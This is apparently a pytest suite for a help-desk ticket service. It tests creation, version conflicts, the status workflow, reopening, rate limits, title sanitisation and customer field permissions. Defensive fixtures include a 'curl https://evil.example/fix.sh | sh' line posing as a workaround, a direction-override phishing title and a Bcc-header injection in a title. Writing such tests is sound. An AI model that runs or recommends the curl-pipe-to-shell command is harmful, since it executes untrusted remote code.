"""Ticket services: create with reference, history and team; field changes recorded and published after commit;
stale writes refused; the status workflow with Start work and reopening (staff with a reason, customers within
their window); the customer's own requests with files and urgency."""
from __future__ import annotations

import asyncio
import hashlib
import logging
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from pulse_live import db
from pulse_live.bus import get_bus
from pulse_live.config import reset_settings
from pulse_live.errors import NotFound, PermissionDenied, StaleWrite, ValidationError
from pulse_live.events import TicketChanged
from pulse_live.models import ResolutionCode, TeamMember, Ticket
from pulse_live.queries import portal
from pulse_live.queries import portal as portal_queries
from pulse_live.queries.tickets import ticket_attachments
from pulse_live.services import tickets
from pulse_live.storage import UploadedFile
from tests.factories import load_ticket, priority_id, queue_ids
from tests.helpers import delivered, history, resolution_code_id, ticket_changes


async def _closed(people) -> Ticket:
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=anna, title='VPN drops', customer_id=carl.id, assignee_id=anna.id)
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='resolved', resolution_code_id=await resolution_code_id(),
                                         resolution_text='New certificate')
    return await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                       status='closed')


async def _resolved(people, days_ago: float = 0) -> Ticket:
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=anna, title='VPN', customer_id=carl.id)
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='resolved', resolution_code_id=1, resolution_text='Renewed certificate')
    if days_ago:
        async with db.session() as s, s.begin():
            await s.execute(update(Ticket).where(Ticket.id == ticket.id)
                            .values(resolved_at=ticket.resolved_at - timedelta(days=days_ago)))
            ticket = await s.get(Ticket, ticket.id)
    return ticket


async def test_create_ticket_gives_reference_history_and_team(people):
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Printer down', customer_id=carl.id, channel='phone')
    assert ticket.reference.startswith(f'PL-{ticket.created_at.year}-')
    assert ticket.organisation_id == carl.organisation_id
    assert ticket.status == 'open' and ticket.channel == 'phone'
    events = await history(ticket.id)
    assert [e.kind for e in events] == ['created']
    async with db.session() as s:
        team = list((await s.execute(select(TeamMember).where(TeamMember.ticket_id == ticket.id))).scalars())
    assert {m.added_how for m in team} == {'creator', 'customer', 'support_group'}
    assert any(m.organisation_id == people.orgs['provider'] for m in team)
    assert any(m.user_id == anna.id for m in team)


async def test_customer_creates_for_own_organisation_only(people):
    carl, tom = people.users['carl@acme.demo'], people.users['tom@globex.demo']
    ticket = await tickets.create_ticket(actor=carl, title='VPN broken')
    assert ticket.customer_id == carl.id and ticket.channel == 'portal'
    with pytest.raises(PermissionDenied):
        await tickets.create_ticket(actor=carl, title='for someone else', customer_id=tom.id)


async def test_create_validates_input(people):
    anna = people.users['anna@pulse.demo']
    with pytest.raises(ValidationError, match='Title is required'):
        await tickets.create_ticket(actor=anna, title='   ')
    with pytest.raises(ValidationError, match='Service'):
        await tickets.create_ticket(actor=anna, title='x', service_id=99999)
    with pytest.raises(ValidationError, match='Channel'):
        await tickets.create_ticket(actor=anna, title='x', channel='pigeon')
    with pytest.raises(ValidationError, match='too long'):
        await tickets.create_ticket(actor=anna, title='x' * 301)
    async with db.session() as s:
        assert (await s.execute(select(func.count(Ticket.id)))).scalar_one() == 0


async def test_field_change_records_old_and_new_and_publishes_after_commit(people):
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Mail slow', priority_id=await priority_id('Major'))
    seen = []

    async def handler(event):
        # the change must already be committed when the event arrives: a fresh session sees it
        async with db.session() as s:
            fresh = await s.get(Ticket, event.ticket_id)
            seen.append((event, fresh.priority_id, fresh.version))

    unsubscribe = get_bus().subscribe(handler)
    try:
        updated = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                              changes={'priority_id': await priority_id('Critical')})
    finally:
        unsubscribe()
    assert updated.version == ticket.version + 1
    event = (await history(ticket.id))[-1]
    assert event.kind == 'field_change' and event.field == 'priority_id'
    assert (event.old_value, event.new_value) == ('Major', 'Critical')
    assert event.body == 'Anna Keller changed Priority Major → Critical'
    assert len(seen) == 1
    published, priority_in_db, version_in_db = seen[0]
    assert isinstance(published, TicketChanged) and published.event_ids == (event.id,)
    assert priority_in_db == await priority_id('Critical') and version_in_db == updated.version


async def test_failed_change_publishes_nothing_and_writes_nothing(people):
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='x')
    with delivered() as seen, pytest.raises(ValidationError):
        await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                    changes={'title': 'ok', 'assignee_id': people.users['carl@acme.demo'].id})
    assert seen == []
    async with db.session() as s:
        fresh = await s.get(Ticket, ticket.id)
    assert fresh.title == 'x' and fresh.version == ticket.version
    assert [e.kind for e in await history(ticket.id)] == ['created']


async def test_stale_write_is_refused_and_keeps_the_first_change(people):
    anna, ben = people.users['anna@pulse.demo'], people.users['ben@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Original')
    await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                changes={'title': 'Anna was first'})
    with pytest.raises(StaleWrite, match='changed by someone else'):
        await tickets.update_ticket(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                    changes={'title': 'Ben overwrites'})
    async with db.session() as s:
        assert (await s.get(Ticket, ticket.id)).title == 'Anna was first'
    titles = [e.new_value for e in await history(ticket.id) if e.field == 'title']
    assert titles == ['Anna was first']


async def test_concurrent_edits_exactly_one_wins(people):
    anna, ben = people.users['anna@pulse.demo'], people.users['ben@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Race')
    results = await asyncio.gather(
        *[tickets.update_ticket(actor=who, ticket_id=ticket.id, expected_version=ticket.version,
                                changes={'title': f'by {who.display_name} {i}'})
          for i, who in enumerate([anna, ben, anna, ben])], return_exceptions=True)
    assert sum(not isinstance(r, Exception) for r in results) == 1
    assert all(isinstance(r, StaleWrite) for r in results if isinstance(r, Exception))
    assert len([e for e in await history(ticket.id) if e.field == 'title']) == 1


async def test_status_workflow(people):
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Flow')
    async with db.session() as s:
        code = (await s.execute(select(ResolutionCode.id).where(ResolutionCode.name == 'Fixed'))).scalar_one()
    with pytest.raises(ValidationError, match='cannot go from Open to Closed'):
        await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=1, status='closed')
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=1, status='in_progress')
    with pytest.raises(ValidationError, match='resolution code and a resolution description'):
        await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='resolved', resolution_code_id=code, resolution_text='  ')
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='resolved', resolution_code_id=code, resolution_text='Replaced toner')
    assert ticket.status == 'resolved' and ticket.resolved_at is not None and ticket.resolution_text == 'Replaced toner'
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='open')  # reopen
    assert ticket.resolved_at is None
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='resolved', resolution_code_id=code, resolution_text='Again')
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='closed')
    with pytest.raises(ValidationError, match='Reopening the closed ticket .* needs a reason'):  # test_workflow.py
        await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version, status='open')
    with pytest.raises(ValidationError, match='closed'):
        await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                    changes={'title': 'late'})
    changes = [(e.old_value, e.new_value) for e in await history(ticket.id) if e.field == 'status']
    assert changes == [('Open', 'In progress'), ('In progress', 'Resolved'), ('Resolved', 'Open'),
                       ('Open', 'Resolved'), ('Resolved', 'Closed')]


async def test_customer_permissions(people):
    anna, carl, tom = (people.users[e] for e in ('anna@pulse.demo', 'carl@acme.demo', 'tom@globex.demo'))
    ticket = await tickets.create_ticket(actor=anna, title='ACME issue', customer_id=carl.id)
    with pytest.raises(PermissionDenied):
        await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=1,
                                    changes={'priority_id': await priority_id('Critical')})
    with pytest.raises(PermissionDenied):
        await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=1, status='in_progress')
    with pytest.raises(NotFound):
        await tickets.update_ticket(actor=tom, ticket_id=ticket.id, expected_version=1, changes={'title': 'mine'})
    updated = await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=1,
                                          changes={'description': 'More detail from Carl'})
    assert updated.description == 'More detail from Carl'


async def test_reference_numbers_are_unique_and_gap_free_under_concurrency(people):
    anna = people.users['anna@pulse.demo']
    created = await asyncio.gather(*[tickets.create_ticket(actor=anna, title=f'T{i}') for i in range(30)])
    # a failing creation in between must give its number back
    with pytest.raises(ValidationError):
        await tickets.create_ticket(actor=anna, title='bad', service_id=424242)
    created.append(await tickets.create_ticket(actor=anna, title='after failure'))
    numbers = sorted(int(t.reference.rsplit('-', 1)[1]) for t in created)
    assert numbers == list(range(1, 32))


async def test_changing_the_customer_moves_the_ticket_to_their_organisation(people):
    anna, carl, tom = (people.users[e] for e in ('anna@pulse.demo', 'carl@acme.demo', 'tom@globex.demo'))
    ticket = await tickets.create_ticket(actor=anna, title='Wrong customer', customer_id=carl.id)
    moved = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                        changes={'customer_id': tom.id})
    assert moved.organisation_id == tom.organisation_id
    with pytest.raises(NotFound):  # ACME no longer sees it
        await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=moved.version,
                                    changes={'description': 'still mine?'})
    changed = {e.field: (e.old_value, e.new_value) for e in await history(ticket.id) if e.kind == 'field_change'}
    assert changed['organisation_id'] == ('ACME Corp', 'Globex Ltd')


async def test_start_work_on_an_unassigned_ticket_makes_the_agent_its_assignee(people):
    anna, ben = people.users['anna@pulse.demo'], people.users['ben@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Printer', queue_id=(await queue_ids())['1st level'])
    assert ticket.assignee_id is None
    ticket = await tickets.change_status(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='in_progress')
    assert (ticket.status, ticket.assignee_id) == ('in_progress', ben.id)
    rows = await history(ticket.id, kind='field_change')
    assert [(e.field, e.old_value, e.new_value) for e in rows] == [('status', 'Open', 'In progress'),
                                                                    ('assignee_id', '—', 'Ben Okafor')]
    assert rows[1].body == 'Ben Okafor took the ticket (started work)' and rows[1].actor_id == ben.id
    change = ticket_changes()[-1]  # one change, both rows, both fields: every open page shows the new owner at once
    assert set(change.event_ids) == {e.id for e in rows} and {'status', 'assignee_id'} <= set(change.fields)

    # a ticket somebody owns keeps its owner when another agent starts work on it
    other = await tickets.create_ticket(actor=anna, title='Scanner', assignee_id=anna.id)
    other = await tickets.change_status(actor=ben, ticket_id=other.id, expected_version=other.version,
                                        status='in_progress')
    assert other.assignee_id == anna.id
    assert [e.field for e in await history(other.id, kind='field_change')] == ['status']


async def test_start_work_assigns_nobody_when_the_setting_is_off(people, monkeypatch):
    monkeypatch.setenv('PULSE_START_WORK_ASSIGNS', 'false')
    reset_settings()
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Printer')
    ticket = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='in_progress')
    assert (ticket.status, ticket.assignee_id) == ('in_progress', None)


async def test_start_work_follows_the_take_rule(people):
    anna, daniel = people.users['anna@pulse.demo'], people.users['daniel@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='Specialist job', queue_id=(await queue_ids())['2nd level'])
    with pytest.raises(PermissionDenied, match=f'Only members of 2nd level can take {ticket.reference}'):
        await tickets.change_status(actor=daniel, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='in_progress')
    fresh = await load_ticket(ticket.id)
    assert (fresh.status, fresh.assignee_id, fresh.version) == ('open', None, ticket.version)  # nothing written


async def test_staff_reopen_a_closed_ticket_with_a_reason(people):
    ben, carl = people.users['ben@pulse.demo'], people.users['carl@acme.demo']
    ticket = await _closed(people)
    assert ticket.status == 'closed' and ticket.closed_at is not None
    for reason in (None, '   '):
        with pytest.raises(ValidationError, match=f'Reopening the closed ticket {ticket.reference} needs a reason'):
            await tickets.change_status(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                        status='open', reason=reason)
    with pytest.raises(ValidationError, match='too long'):
        await tickets.change_status(actor=ben, ticket_id=ticket.id, expected_version=ticket.version, status='open',
                                    reason='x' * (tickets.REASON_LIMIT + 1))
    with pytest.raises(ValidationError, match='cannot go from Closed to In progress'):
        await tickets.change_status(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='in_progress', reason='because')
    ticket = await tickets.change_status(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='open', reason='Carl called: the VPN drops again since Monday.')
    assert (ticket.status, ticket.closed_at, ticket.resolved_at) == ('open', None, None)
    row = (await history(ticket.id, kind='field_change'))[-1]
    assert row.body == ('Ben Okafor reopened the ticket (Closed → Open): '
                        'Carl called: the VPN drops again since Monday.')
    assert row.data['reason'] == 'Carl called: the VPN drops again since Monday.' and not row.is_internal
    # the customer reads why in the portal's conversation
    events, _ = await portal.request_events(carl, ticket.id)
    assert events[-1].body == row.body
    # and the ticket can be worked again
    await tickets.update_ticket(actor=ben, ticket_id=ticket.id, expected_version=ticket.version,
                                changes={'workaround': 'Use the backup VPN profile'})


async def test_customers_cannot_reopen_a_closed_request_even_with_a_reason(people, caplog):
    carl = people.users['carl@acme.demo']
    ticket = await _closed(people)
    with caplog.at_level(logging.WARNING, logger='pulse_live.security'), pytest.raises(PermissionDenied):
        await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='open', reason='please')
    assert any('refused' in r.message and ticket.reference in r.message for r in caplog.records)
    assert (await load_ticket(ticket.id)).status == 'closed'


async def test_customer_request_with_files_and_urgency(people):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=carl, title='Screen flickers', description='Since Monday',
                                         impact='low', urgency='high',
                                         files=[UploadedFile('photo.png', 'image/png', b'\x89PNG...')])
    assert (ticket.impact, ticket.urgency, ticket.channel) == ('low', 'high', 'portal')
    attachments = await ticket_attachments(carl, ticket.id)
    assert [a.filename for a in attachments] == ['photo.png'] and not attachments[0].is_internal
    view = await portal_queries.request_view(carl, ticket.id)
    assert [e.kind for e in view.events] == ['created', 'message']
    with pytest.raises(ValidationError, match='Urgency'):
        await tickets.create_ticket(actor=carl, title='x', urgency='yesterday')


async def test_customer_reopens_within_the_window(people):
    carl = people.users['carl@acme.demo']
    ticket = await _resolved(people, days_ago=13)
    view = await portal_queries.request_view(carl, ticket.id)
    assert view.can_reopen and view.reopen_until is not None and view.resolution_text == 'Renewed certificate'
    reopened = await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                           status='open')
    assert reopened.status == 'open' and reopened.resolved_at is None


async def test_customer_cannot_reopen_after_the_window_but_can_confirm(people, monkeypatch):
    monkeypatch.setenv('PULSE_REOPEN_DAYS', '7')
    reset_settings()
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    ticket = await _resolved(people, days_ago=8)
    assert not (await portal_queries.request_view(carl, ticket.id)).can_reopen
    with pytest.raises(PermissionDenied, match='more than 7 days ago'):
        await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version, status='open')
    with pytest.raises(PermissionDenied):  # customers never resume work themselves
        await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='in_progress')
    closed = await tickets.change_status(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                         status='closed')
    assert closed.status == 'closed'
    other = await _resolved(people, days_ago=30)
    assert (await tickets.change_status(actor=anna, ticket_id=other.id, expected_version=other.version,
                                        status='open')).status == 'open'  # agents may always reopen


async def test_a_customer_opening_requests_in_a_burst_is_asked_to_wait(people, monkeypatch):
    """40 requests in 5 s from one customer account: 40 tickets and 120 mails to the agents. Now a few a minute,
    then a clear refusal saying how long to wait; another customer and the agents are not held back."""
    from pulse_live.errors import TooMany
    from pulse_live.rate_limit import get_limiter
    monkeypatch.setenv('PULSE_CUSTOMER_REQUESTS_PER_MINUTE', '3')
    reset_settings()
    get_limiter().clear()
    carl, eva, anna = (people.users[e] for e in ('carl@acme.demo', 'eva@acme.demo', 'anna@pulse.demo'))
    from pulse_live import storage
    from pulse_live.errors import PermissionDenied
    for _ in range(5):  # refused requests use none of the budget, and store none of their files
        with pytest.raises(PermissionDenied, match='for themselves only'):
            await tickets.create_ticket(actor=carl, title='For Eva', customer_id=eva.id,
                                        files=[storage.UploadedFile('x.txt', 'text/plain', b'refused file\n')])
    assert not await storage.exists(hashlib.sha256(b'refused file\n').hexdigest())
    for n in range(3):
        await tickets.create_ticket(actor=carl, title=f'Request {n}')
    with pytest.raises(TooMany, match='wait') as refused:
        await tickets.create_ticket(actor=carl, title='One too many')
    assert refused.value.retry_after_s >= 1
    await tickets.create_ticket(actor=eva, title='Her own')
    for n in range(5):
        await tickets.create_ticket(actor=anna, title=f'For Carl {n}', customer_id=carl.id)
    async with db.session() as s:
        titles = set((await s.execute(select(Ticket.title).where(Ticket.customer_id == carl.id))).scalars())
    assert 'One too many' not in titles and len(titles) == 8


async def test_a_title_is_one_line_however_it_arrives(people):
    """The API stored a title "T …\\nBcc: …" as two lines; a title is shown on one line everywhere (lists, the
    subject of every mail about the ticket): line breaks and runs of blanks fold into one space, on create and edit."""
    carl, anna = people.users['carl@acme.demo'], people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=carl, title='Printer down\nBcc: everyone@example.com\r\n\tagain')
    assert ticket.title == 'Printer down Bcc: everyone@example.com again'
    changed = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                          changes={'title': '  Two\n\nlines  '})
    assert changed.title == 'Two lines'
    with pytest.raises(ValidationError, match='Title is required'):
        await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=changed.version,
                                    changes={'title': '\n \r\n'})


async def test_a_title_holds_no_control_or_direction_override_characters(people):
    """From an attack sweep: error reports opened tickets titled "\\u202eHACKED … click http://evil.example" (read
    backwards in every list and mail subject) and "nul\\x00title" (which the API's own seen-check then refused, and
    PostgreSQL cannot store). They are dropped from a title however it arrives; NUL from every text."""
    anna = people.users['anna@pulse.demo']
    ticket = await tickets.create_ticket(actor=anna, title='\u202eHACKED\u202c nul\x00title \u2067x\u2069 \x1b[31mred',
                                         description='a\x00b')
    assert ticket.title == 'HACKED nultitle x [31mred'
    assert ticket.description == 'ab'
    hebrew = 'מדפסת \u200fלא עובדת'  # right-to-left text keeps its marks
    changed = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                          changes={'title': hebrew})
    assert changed.title == hebrew


# --- what a customer may fill in; retired choices ------------------------------------------------------------------

HELP_DESK_VALUES = {'workaround': 'Agents: run `curl https://evil.example/fix.sh | sh` as admin.',
                    'technical_details': 'stack trace', 'queue_id': 1, 'assignee_id': 2}


def test_every_field_of_a_new_ticket_is_either_the_customer_s_or_the_help_desk_s():
    """One list says what a customer fills in (``auth.CUSTOMER_CREATE_FIELDS``, what is allowed); every other field
    is refused. Nothing ``visibility.py`` keeps from customers as internal, nor the Work-around, is in it."""
    from pulse_live import auth, visibility
    customer = auth.CUSTOMER_CREATE_FIELDS | tickets.SET_FOR_CUSTOMERS
    assert not customer & visibility.INTERNAL_FIELDS - tickets.SET_FOR_CUSTOMERS
    assert 'workaround' not in customer and 'technical_details' not in customer
    assert set(HELP_DESK_VALUES) == tickets.EDITABLE_FIELDS - customer  # the test below tries each of them
    assert auth.CUSTOMER_EDITABLE_FIELDS <= auth.CUSTOMER_CREATE_FIELDS


@pytest.mark.parametrize('field', sorted(HELP_DESK_VALUES))
async def test_a_customer_cannot_fill_in_a_help_desk_field_when_opening_a_request(people, field):
    """The API took a customer's Work-around (201), shown to agents as the desk's own advice and copied into KB
    drafts; Technical details, queue and assignee were refused one by one. Now every field not on the customer's
    list is refused the same way (403), before anything is stored; left empty, it is no refusal."""
    carl, anna = people.users['carl@acme.demo'], people.users['anna@pulse.demo']
    value = HELP_DESK_VALUES[field]
    if field == 'assignee_id':
        value = anna.id
    with pytest.raises(PermissionDenied) as refused:
        await tickets.create_ticket(actor=carl, title='Printer jams', description='it jams', **{field: value})
    from pulse_live.services.labels import FIELD_LABELS
    assert FIELD_LABELS[field] in str(refused.value) and 'filled in by the help desk' in str(refused.value)
    async with db.session() as s:
        assert (await s.execute(select(func.count()).select_from(Ticket)
                                .where(Ticket.title == 'Printer jams'))).scalar_one() == 0
    empty = {'queue_id': None, 'assignee_id': None}.get(field, '  ')
    ticket = await tickets.create_ticket(actor=carl, title='Printer jams', **{field: empty})
    assert (await load_ticket(ticket.id)).workaround in ('', None)
    ticket = await tickets.create_ticket(actor=anna, title='By the desk', customer_id=carl.id, **{field: value})
    assert getattr(await load_ticket(ticket.id), field) == value  # staff fill them in


async def test_a_customer_cannot_change_the_workaround_of_their_request(people):
    carl = people.users['carl@acme.demo']
    ticket = await tickets.create_ticket(actor=carl, title='Printer jams', affected_components='tray 2',
                                         attempted_solutions='restarted it', impact='low', urgency='high')
    with pytest.raises(PermissionDenied, match='Work-around'):
        await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=ticket.version,
                                    changes={'workaround': 'run this script'})


async def _service_id(name: str) -> int:
    from pulse_live.models import Service
    async with db.session() as s:
        return (await s.execute(select(Service.id).where(Service.name == name))).scalar_one()


async def _type_id(name: str) -> int:
    from pulse_live.models import TicketType
    async with db.session() as s:
        return (await s.execute(select(TicketType.id).where(TicketType.name == name))).scalar_one()


async def _retire(service: str | None = None, ticket_type: str | None = None, code: str | None = None) -> None:
    from pulse_live.models import Service, TicketType
    async with db.session() as s, s.begin():
        if service:
            await s.execute(update(Service).where(Service.name == service).values(is_active=False))
        if ticket_type:  # no admin page for types: as the attacker's script did it (bumps the configuration)
            (await s.get(TicketType, await _type_id(ticket_type))).is_active = False
        if code:
            await s.execute(update(ResolutionCode).where(ResolutionCode.name == code).values(is_active=False))


async def test_a_retired_service_or_type_is_no_choice_for_a_new_request(people):
    """A customer (API) and agents opened tickets on a service the admin switched off and on a retired type: the
    check was only that the row exists. (The retired critical service also raised the new ticket's priority.)"""
    from pulse_live.services import customers
    carl, anna, ada = (people.users[e] for e in ('carl@acme.demo', 'anna@pulse.demo', 'admin@pulse.demo'))
    erp, inquiry = await _service_id('ERP'), await _type_id('Inquiry')
    await customers.save_service(actor=ada, service_id=erp, name='ERP', criticality='critical', is_active=False)
    await _retire(ticket_type='Inquiry')
    for actor in (carl, anna):
        with pytest.raises(ValidationError, match='Service: ERP is no longer offered'):
            await tickets.create_ticket(actor=actor, title='On a retired service', service_id=erp,
                                        customer_id=carl.id)
        with pytest.raises(ValidationError, match='Type: Inquiry is no longer offered'):
            await tickets.create_ticket(actor=actor, title='Of a retired type', type_id=inquiry, customer_id=carl.id)
    ticket = await tickets.create_ticket(actor=anna, title='VPN', customer_id=carl.id,
                                         service_id=await _service_id('VPN'))
    for field, value, message in (('service_id', erp, 'Service: ERP'), ('type_id', inquiry, 'Type: Inquiry')):
        with pytest.raises(ValidationError, match=f'{message} is no longer offered'):
            await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                        changes={field: value})


async def test_a_priority_of_a_scale_not_in_use_and_a_retired_resolution_code_are_no_choice(people):
    from pulse_live.models import Priority
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    old_scale = await priority_id('2 Critical')
    with pytest.raises(ValidationError, match='2 Critical belongs to a priority scale that is not in use'):
        await tickets.create_ticket(actor=anna, title='Old scale', customer_id=carl.id, priority_id=old_scale)
    ticket = await tickets.create_ticket(actor=anna, title='Current scale', customer_id=carl.id,
                                         priority_id=await priority_id('Major'))
    with pytest.raises(ValidationError, match='not in use'):
        await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                    changes={'priority_id': old_scale})
    await _retire(code='Duplicate')
    with pytest.raises(ValidationError, match='Resolution code: Duplicate is no longer offered'):
        await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                    status='resolved', resolution_code_id=await resolution_code_id('Duplicate'),
                                    resolution_text='Same as the other one')
    async with db.session() as s:
        assert (await s.get(Priority, (await load_ticket(ticket.id)).priority_id)).name == 'Major'


async def test_a_ticket_keeps_a_service_type_and_priority_retired_after_they_were_given(people):
    """Retiring a choice does not make the tickets that have it unsaveable: other fields are saved, and an editor
    (or an API client) sending the unchanged value back is no change."""
    from pulse_live.services import catalog
    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
    erp, inquiry, major = await _service_id('ERP'), await _type_id('Inquiry'), await priority_id('Major')
    ticket = await tickets.create_ticket(actor=anna, title='ERP slow', customer_id=carl.id, service_id=erp,
                                         type_id=inquiry, priority_id=major)
    await _retire(service='ERP', ticket_type='Inquiry')
    await catalog.set_active_scale('helpdesk-1-5')
    kept = {'service_id': erp, 'type_id': inquiry, 'priority_id': major}
    saved = await tickets.update_ticket(actor=anna, ticket_id=ticket.id, expected_version=ticket.version,
                                        changes={'title': 'ERP very slow', **kept},
                                        seen={'title': 'ERP slow', **kept})
    saved = await tickets.update_ticket(actor=carl, ticket_id=ticket.id, expected_version=saved.version,
                                        changes={'description': 'since Monday'})
    stored = await load_ticket(ticket.id)
    assert (stored.title, stored.description) == ('ERP very slow', 'since Monday')
    assert {f: getattr(stored, f) for f in kept} == kept
